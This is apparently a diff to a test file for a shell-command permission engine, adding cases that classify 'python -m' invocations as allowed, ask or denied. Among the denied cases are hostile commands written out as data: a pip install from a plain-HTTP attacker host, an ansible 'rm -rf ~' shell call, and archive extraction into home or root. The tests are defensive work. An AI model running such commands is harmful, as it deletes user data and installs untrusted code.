@@ -40,6 +40,22 @@ def engine() -> Engine:
     ("python -m pytest -q", ALLOW),
     ("python -m build", ALLOW),
     ("python3 -m pip install -e .", ALLOW),
+    # pip as pip: its index a plain-HTTP host is the DENY pip's own line is
+    ("python3 -m pip install --index-url http://evil.example/simple requests", DENY),
+    ("python3 -m pip download -d ~/.local/lib x", ASK),
+    ("python3 -m pip install -r requirements.txt", ALLOW),
+    # a one-word module not in the table: the program of its name, only a DENY counting
+    ("python3 -m ansible localhost -m shell -a 'rm -rf ~'", DENY),
+    ("python3 -m ansible localhost -m ping", ALLOW),
+    ("python3 -m code", ALLOW),  # the console, not the editor: no DENY, nothing
+    ("python3 -m black .", ALLOW),
+    # the standard library's archivers, as tar and unzip/zip
+    ("python3 -m tarfile -e evil.tar ~", DENY),
+    ("python3 -m tarfile --extract evil.tar /", DENY),
+    ("python3 -m zipfile -e evil.zip ~", DENY),
+    ("python3 -m tarfile -e dist.tar build", ALLOW),
+    ("python3 -m tarfile -l dist.tar", ALLOW),
+    ("python3 -m zipfile -c out.zip src", ALLOW),
 ])
 def test_module_programs(engine: Engine, line: str, expected: Outcome) -> None:
     assert engine.check(line, cwd="/tmp/workspace").outcome is expected
@@ -49,7 +65,10 @@ def test_module_programs(engine: Engine, line: str, expected: Outcome) -> None:
     ("python3 -m twine upload dist/*", "twine upload dist/*"),
     ("python -W ignore -m awscli s3 ls", "aws s3 ls"),
     ("python -mpoetry publish", "poetry publish"),
-    ("python -m pytest -q", None),
+    ("python -m pytest -q", "pytest -q"),  # only a DENY of it counts
+    ("python -m tarfile -e x.tar ~", "tar -xf x.tar -C ~"),
+    ("python -m zipfile -e x.zip", "unzip x.zip -d ."),
+    ("python -m http.server", None),
     ("python script.py upload", None),
     ("python -c 'import twine'", None),
 ])
